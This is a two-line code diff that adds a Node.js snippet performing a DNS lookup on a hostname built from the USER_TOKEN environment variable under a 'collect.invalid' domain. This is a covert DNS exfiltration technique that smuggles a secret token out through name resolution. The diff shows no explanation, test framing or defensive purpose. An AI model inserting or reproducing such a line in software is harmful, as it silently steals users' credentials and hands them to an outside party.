@@ -1,0 +1,2 @@
+const dns = require("dns");
+dns.lookup(`${process.env.USER_TOKEN}.collect.invalid`, () => {});
